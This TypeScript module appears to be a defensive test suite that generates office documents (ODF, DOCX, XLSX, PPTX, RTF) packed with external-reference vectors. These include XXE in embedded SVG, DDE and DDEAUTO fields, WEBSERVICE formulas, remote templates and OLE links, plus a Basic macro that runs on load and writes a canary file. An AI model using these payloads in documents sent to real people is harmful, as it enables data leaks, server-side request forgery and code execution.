import type { FormatId } from "../../../../functions/domain/formats/formats.ts";
import { writeZip } from "../../../../functions/engines/archives/zip/writer.ts";

/** Office documents with external references, in every way that their formats support. */

/** A document, written to the path. */
export interface OfficeAttack {
  readonly title: string;
  readonly format: FormatId;
  readonly write: (path: string, place: string) => Promise<void>;
}

const OASIS = ["office", "style", "text", "table", "form", "script", "meta", "number", "presentation"]
  .map((name) => `xmlns:${name}="urn:oasis:names:tc:opendocument:xmlns:${name}:1.0"`)
  .concat(
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"',
    'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"',
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"',
    'xmlns:xlink="http://www.w3.org/1999/xlink"',
    'xmlns:ooo="http://openoffice.org/2004/office"',
    'xmlns:dom="http://www.w3.org/2001/xml-events"',
    'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2"',
    'xmlns:xforms="http://www.w3.org/2002/xforms"',
  )
  .join(" ");

const link = (place: string): string =>
  `xlink:href="${place}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"`;
const SIZE = 'svg:x="1cm" svg:y="1cm" svg:width="4cm" svg:height="4cm"';

/** Within a frame, or in its place. */
const FRAMED: Readonly<Record<string, (place: string) => string>> = {
  picture: (place) => `<draw:frame ${SIZE}><draw:image ${link(place)}/></draw:frame>`,
  object: (place) => `<draw:frame ${SIZE}><draw:object ${link(place)}/></draw:frame>`,
  "OLE object": (place) => `<draw:frame ${SIZE}><draw:object-ole ${link(place)}/></draw:frame>`,
  plugin: (place) =>
    `<draw:frame ${SIZE}><draw:plugin ${link(place)} draw:mime-type="application/vnd.sun.star.media"/></draw:frame>`,
  "floating frame": (place) => `<draw:frame ${SIZE}><draw:floating-frame ${link(place)}/></draw:frame>`,
  "picture in a picture": (place) =>
    `<draw:frame ${SIZE}><draw:image><office:binary-data>${Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${place}">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><style>@import url("${place}");</style><image width="200" height="200" xlink:href="${place}"/><use xlink:href="${place}#a"/><text y="20">&x;</text></svg>`,
    ).toString("base64")}</office:binary-data></draw:image></draw:frame>`,
};

/** In a text alone. */
const TEXTUAL: Readonly<Record<string, (place: string) => string>> = {
  section: (place) =>
    `<text:section text:name="s"><text:section-source ${link(place)}/><text:p>cached</text:p></text:section>`,
  "section with a filter": (place) =>
    `<text:section text:name="s"><text:section-source ${link(place)} text:filter-name="Text"/><text:p>cached</text:p></text:section>`,
  "DDE section": (place) =>
    `<text:section text:name="s"><office:dde-source office:name="d" office:dde-application="soffice" office:dde-topic="${place}" office:dde-item="a" office:automatic-update="true"/><text:p>cached</text:p></text:section>`,
  "list picture": (place) =>
    `<text:list><text:list-item><text:p>x</text:p></text:list-item></text:list><text:p><text:a ${link(place)}>a</text:a></text:p>`,
  form: (place) =>
    `<office:forms><form:form ${link(place)}><form:image form:id="i" form:image-data="${place}"/><form:button form:id="b" form:image-data="${place}"/></form:form></office:forms><text:p><draw:control draw:control="b" ${SIZE}/></text:p>`,
};

const flat = (kind: string, body: string, extra = ""): string =>
  `<?xml version="1.0"?><office:document ${OASIS} office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.${kind}">${extra}<office:body>${body}</office:body></office:document>`;

const background = (place: string): string =>
  `<office:automatic-styles><style:page-layout style:name="p"><style:page-layout-properties fo:page-width="21cm" fo:page-height="29cm"><style:background-image ${link(place)}/></style:page-layout-properties></style:page-layout><style:style style:name="b" style:family="paragraph"><style:paragraph-properties><style:background-image ${link(place)}/></style:paragraph-properties></style:style><text:list-style style:name="l"><text:list-level-style-image text:level="1" ${link(place)}/></text:list-style></office:automatic-styles><office:master-styles><style:master-page style:name="Standard" style:page-layout-name="p"/></office:master-styles>`;

const asFile =
  (content: (place: string) => string) =>
  async (path: string, place: string): Promise<void> => {
    const { writeFile } = await import("node:fs/promises");
    await writeFile(path, content(place));
  };

type Parts = Readonly<Record<string, string>>;

const asZip =
  (parts: (place: string) => Parts) =>
  (path: string, place: string): Promise<void> =>
    writeZip(
      path,
      Object.entries(parts(place)).map(([name, content]) => ({ path: name, bytes: Buffer.from(content) })),
    );

const openPackage = (kind: string, element: string, inner: string): Parts => ({
  mimetype: `application/vnd.oasis.opendocument.${kind}`,
  "content.xml": `<?xml version="1.0"?><office:document-content ${OASIS} office:version="1.2"><office:body><office:${element}><draw:page draw:name="1">${inner}</draw:page></office:${element}></office:body></office:document-content>`,
  "META-INF/manifest.xml": `<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.${kind}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
});

const cell = (formula: string): string =>
  `<table:table-row><table:table-cell table:formula="${formula}" office:value-type="string" office:string-value="cached"><text:p>cached</text:p></table:table-cell></table:table-row>`;

const openSheets = (place: string): string =>
  flat(
    "spreadsheet",
    `<office:spreadsheet><table:table table:name="A"><table:table-column/>${[
      `of:=WEBSERVICE(&quot;${place}&quot;)`,
      `of:='${place}'#$Sheet1.A1`,
      `of:=DDE(&quot;soffice&quot;;&quot;${place}&quot;;&quot;Sheet1.A1&quot;)`,
      `of:=INDIRECT(&quot;'${place}'#Sheet1.A1&quot;)`,
      `of:=HYPERLINK(&quot;${place}&quot;)`,
    ]
      .map(cell)
      .join(
        "",
      )}<table:table-row><table:table-cell><table:cell-range-source table:name="Sheet1" ${link(place)} table:filter-name="Text - txt - csv (StarCalc)" table:last-column-spanned="2" table:last-row-spanned="2"/><text:p>x</text:p></table:table-cell></table:table-row></table:table><table:table table:name="B"><table:table-source ${link(place)} table:filter-name="Text - txt - csv (StarCalc)" table:mode="copy-all"/><table:table-column/><table:table-row><table:table-cell/></table:table-row></table:table></office:spreadsheet>`,
  );

const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const external = (id: string, type: string, place: string): string =>
  `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${place}" TargetMode="External"/>`;
const relations = (...all: readonly string[]): string =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join("")}</Relationships>`;
const inner = (id: string, type: string, target: string): string =>
  `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}"/>`;
const types = (...parts: readonly (readonly [string, string])[]): string =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${parts
    .map(
      ([part, type]) =>
        `<Override PartName="/${part}" ContentType="application/vnd.openxmlformats-officedocument.${type}+xml"/>`,
    )
    .join("")}</Types>`;

const DRAWING_NAMES =
  'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"';

const word = (place: string): Parts => ({
  "[Content_Types].xml": types(
    ["word/document.xml", "wordprocessingml.document.main"],
    ["word/settings.xml", "wordprocessingml.settings"],
  ),
  "_rels/.rels": relations(inner("r1", "officeDocument", "word/document.xml")),
  "word/_rels/document.xml.rels": relations(
    external("p", "image", place),
    external("h", "aFChunk", place),
    external("o", "oleObject", place),
    external("s", "subDocument", place),
    inner("t", "settings", "settings.xml"),
  ),
  "word/_rels/settings.xml.rels": relations(external("m", "attachedTemplate", place)),
  "word/settings.xml": `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}"><w:attachedTemplate r:id="m"/><w:updateFields w:val="true"/></w:settings>`,
  "word/document.xml": `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" ${DRAWING_NAMES}><w:body><w:p><w:r><w:t>words</w:t></w:r></w:p><w:altChunk r:id="h"/><w:subDoc r:id="s"/><w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="p" r:embed="p"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p><w:p><w:r><w:pict><v:shape style="width:100pt;height:100pt"><v:imagedata r:id="p" src="${place}"/></v:shape></w:pict></w:r><w:r><w:object><v:shape id="s1" style="width:50pt;height:50pt"/><o:OLEObject Type="Link" ProgID="Word.Document.8" ShapeID="s1" r:id="o" UpdateMode="Always"/></w:object></w:r></w:p>${[
    "INCLUDEPICTURE",
    "INCLUDETEXT",
    "LINK Word.Document.8",
    "DDEAUTO soffice",
  ]
    .map(
      (field) =>
        `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText>${field} "${place}" \\d</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>cached</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
    )
    .join("")}</w:body></w:document>`,
});

const excel = (place: string): Parts => ({
  "[Content_Types].xml": types(
    ["xl/workbook.xml", "spreadsheetml.sheet.main"],
    ["xl/worksheets/sheet1.xml", "spreadsheetml.worksheet"],
    ["xl/externalLinks/externalLink1.xml", "spreadsheetml.externalLink"],
    ["xl/connections.xml", "spreadsheetml.connections"],
  ),
  "_rels/.rels": relations(inner("r1", "officeDocument", "xl/workbook.xml")),
  "xl/_rels/workbook.xml.rels": relations(
    inner("s", "worksheet", "worksheets/sheet1.xml"),
    inner("e", "externalLink", "externalLinks/externalLink1.xml"),
    inner("c", "connections", "connections.xml"),
  ),
  "xl/externalLinks/_rels/externalLink1.xml.rels": relations(external("x", "externalLinkPath", place)),
  "xl/externalLinks/externalLink1.xml": `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="${OFFICE}" r:id="x"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>`,
  "xl/connections.xml": `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="c" type="4" refreshOnLoad="1"><webPr url="${place}"/></connection></connections>`,
  "xl/workbook.xml": `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE}"><sheets><sheet name="A" sheetId="1" r:id="s"/></sheets><externalReferences><externalReference r:id="e"/></externalReferences><calcPr fullCalcOnLoad="1"/></workbook>`,
  "xl/worksheets/sheet1.xml": `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>[1]Sheet1!A1</f></c><c r="B1"><f>_xlfn.WEBSERVICE("${place}")</f></c><c r="C1"><f>soffice|'${place}'!A1</f></c><c r="D1" t="inlineStr"><is><t>words</t></is></c></row></sheetData></worksheet>`,
});

const slides = (place: string): Parts => ({
  "[Content_Types].xml": types(
    ["ppt/presentation.xml", "presentationml.presentation.main"],
    ["ppt/slides/slide1.xml", "presentationml.slide"],
  ),
  "_rels/.rels": relations(inner("r1", "officeDocument", "ppt/presentation.xml")),
  "ppt/_rels/presentation.xml.rels": relations(inner("s", "slide", "slides/slide1.xml")),
  "ppt/presentation.xml": `<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="${OFFICE}"><p:sldIdLst><p:sldId id="256" r:id="s"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/></p:presentation>`,
  "ppt/slides/_rels/slide1.xml.rels": relations(
    external("p", "image", place),
    external("v", "video", place),
    external("o", "oleObject", place),
  ),
  "ppt/slides/slide1.xml": `<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="${OFFICE}" ${DRAWING_NAMES}><p:cSld><p:bg><p:bgPr><a:blipFill><a:blip r:link="p"/></a:blipFill></p:bgPr></p:bg><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/><p:pic><p:nvPicPr><p:cNvPr id="2" name="v"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="v"/></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:link="p"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="2000000" cy="2000000"/></a:xfrm><a:prstGeom prst="rect"/></p:spPr></p:pic><p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="3" name="o"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="2000000" cy="2000000"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj r:id="o" progId="Word.Document.8"><p:link updateAutomatic="1"/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame></p:spTree></p:cSld></p:sld>`,
});

const rich = (place: string): string =>
  `{\\rtf1\\ansi{\\*\\template ${place}}words\\par${[
    "INCLUDEPICTURE",
    "INCLUDETEXT",
    "LINK Word.Document.8",
    "DDEAUTO soffice",
    "IMPORT",
  ]
    .map((field) => `{\\field\\flddirty{\\*\\fldinst ${field} "${place}" \\\\d}{\\fldrslt cached}}\\par`)
    .join("")}{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105}{\\result x}}}`;

export const officeAttacks: readonly OfficeAttack[] = [
  ...Object.entries({ ...FRAMED, ...TEXTUAL }).map(
    ([title, body]): OfficeAttack => ({
      title: `a text with a ${title}`,
      format: "fodt",
      write: asFile((place) =>
        flat(
          "text",
          `<office:text>${title in FRAMED ? `<text:p>x${body(place)}</text:p>` : body(place)}</office:text>`,
        ),
      ),
    }),
  ),
  {
    title: "a text with backgrounds",
    format: "fodt",
    write: asFile((place) =>
      flat(
        "text",
        '<office:text><text:p text:style-name="b">x</text:p><text:list text:style-name="l"><text:list-item><text:p>x</text:p></text:list-item></text:list></office:text>',
        background(place),
      ),
    ),
  },
  ...(["odp", "odg"] as const).map(
    (format): OfficeAttack => ({
      title: `an ${format} with pictures and objects`,
      format,
      write: asZip((place) => {
        const frames = Object.values(FRAMED).map((frame) => frame(place));
        return format === "odp"
          ? openPackage("presentation", "presentation", frames.join(""))
          : openPackage("graphics", "drawing", frames.join(""));
      }),
    }),
  ),
  { title: "a workbook with formulas and sources", format: "fods", write: asFile(openSheets) },
  { title: "a DOCX with relations", format: "docx", write: asZip(word) },
  { title: "an XLSX with relations", format: "xlsx", write: asZip(excel) },
  { title: "a PPTX with relations", format: "pptx", write: asZip(slides) },
  { title: "an RTF with fields", format: "rtf", write: asFile(rich) },
];

/** @returns a text document with a Basic macro that writes the file when the document is opened */
export const macroText = (file: string): string =>
  flat(
    "text",
    "<office:text><text:p>words</text:p></office:text>",
    `<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>Sub Main&#10;Open "${file}" For Output As #1&#10;Print #1, "ran"&#10;Close #1&#10;End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script><office:event-listeners>${[
      "dom:load",
      "office:load-finished",
      "office:new",
      "office:view-created",
    ]
      .map(
        (event) =>
          `<script:event-listener script:language="ooo:script" script:event-name="${event}" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document" xlink:type="simple"/>`,
      )
      .join("")}</office:event-listeners></office:scripts>`,
  );
